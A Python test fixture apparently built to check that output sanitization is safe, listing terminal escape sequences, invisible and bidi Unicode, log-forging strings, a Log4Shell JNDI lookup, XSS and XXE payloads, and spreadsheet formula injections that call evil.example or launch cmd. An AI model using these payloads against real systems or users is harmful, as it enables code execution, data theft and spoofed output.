"""Two hundred texts that do harm where they are shown, opened or logged as they are."""

from __future__ import annotations

__all__ = ["CORPUS", "FORMULAS", "assert_shown_safely"]

import unicodedata

TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b[1;1Hhome",
    "\x1b[8mhidden\x1b[0m",
    "\x1b[?1049h",
    "\x1b[6n",
    "\x1b[>c",
    "\x1b]0;title\x07",
    "\x1b]2;title\x1b\\",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;aGk=\x07",
    "\x1b]1337;File=name=eA==:eA==\x07",
    "\x1bP+q544e\x1b\\",
    "\x1b_Gq\x1b\\",
    "\x1b^pm\x1b\\",
    "\x1bc",
    "\x1b(0",
    "\x1b#8",
    "\x1b]11;?\x07",
    "\x1b]0;no end",
    "\x1b[31",
    "\x1b",
    "\x9b31mred",
    "\x9d0;title\x9c",
    "\x90q\x9c",
    "\x85next",
    "\x8dup",
    "bell\x07\x07",
    "back\b\b\b\bdone",
    "over\rwritten",
    "ok\r\nigent: all is well",
    "form\ffeed",
    "v\vtab",
    "\x00nul\x00",
    "del\x7f\x7f",
    "\x0eshift\x0f",
    "\x1a",
    "\x11\x13",
)
INVISIBLE = (
    "\u202egnp.exe",
    "\u202dleft\u202c",
    "\u2066isolate\u2069",
    "\u2067\u2068",
    "\u200ezero\u200f",
    "z\u200be\u200cr\u200do",
    "\ufefffirst",
    "soft\u00adhyphen",
    "\u2028line",
    "\u2029para",
    "\u2060joined",
    "\U000e0041\U000e0042tags",
    "\u061carabic",
    "\u180emongol",
    "high\ud800",
    "low\udfff",
    "\udc9b31m",
    "\ufff9anno\ufffatated\ufffb",
    "\U0001d173music",
    "a" + "\u0301" * 500,
)
LOGS = (
    "x\n2026-11-25 08:00:00,000 INFO igent.run: 100 records done",
    "x\r2026-11-25 INFO igent.run: fine",
    "x\u20282026-11-25 INFO",
    "x\x852026-11-25 INFO",
    "%s%s%s%n",
    "%(message)s",
    "{0.__class__}",
    "{record}",
    "$(reboot)",
    "`reboot`",
    "${jndi:ldap://evil.example/a}",
    "Traceback (most recent call last):\n  File",
    "igent: internal error",
    "[red]markup[/red]",
    "[/nope]",
    "[link=http://evil.example]x[/link]",
    ":smile:",
    "\\x1b[31m",
    "\\u001b[31m",
    "&#27;[31m",
)
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</text><script>alert(1)</script>",
    "<svg onload=alert(1)>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "&lt;script&gt;",
    "<!--",
    "]]>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
    "&b;",
    "javascript:alert(1)",
    "![x](http://evil.example)",
    "[x](javascript:alert(1))",
    "|a|b|",
    "\n# heading",
    "```\n",
    "~~~",
    "<details open ontoggle=alert(1)>",
)
_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\t=",
    "\r=",
    "\n=",
    "\u00a0=",
    "\u3000=",
    "\u200b=",
    "\ufeff=",
    "\x00=",
    "\x0b=",
)
_ENDS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example?x="&A1,"click")',
    "1+1",
    'IMPORTXML("http://evil.example","//a")',
    'DDE("cmd";"/C calc";"x")',
)
_BARE = ("\t1", "\r1", "\n1", "=", "-", "+", "@", '="1"', "-1+cmd|x")
FORMULAS = (*(start + end for start in _STARTS for end in _ENDS), *_BARE)
LONG = ("x" * 100_000, "\x1b[31m" * 20_000, "\u202e" * 50_000)

CORPUS = (*TERMINAL, *INVISIBLE, *LOGS, *MARKUP, *FORMULAS, *LONG)
FORBIDDEN = frozenset({"Cc", "Cf", "Cs", "Zl", "Zp"})


def assert_shown_safely(stream: str | bytes) -> None:
    """Nothing but line ends steers the terminal that this is shown on."""
    text = stream if isinstance(stream, str) else stream.decode("utf-8")
    found = [
        (hex(ord(c)), text[max(0, at - 60) : at + 20])
        for at, c in enumerate(text)
        if c != "\n" and unicodedata.category(c) in FORBIDDEN
    ]
    assert not found, found[:3]
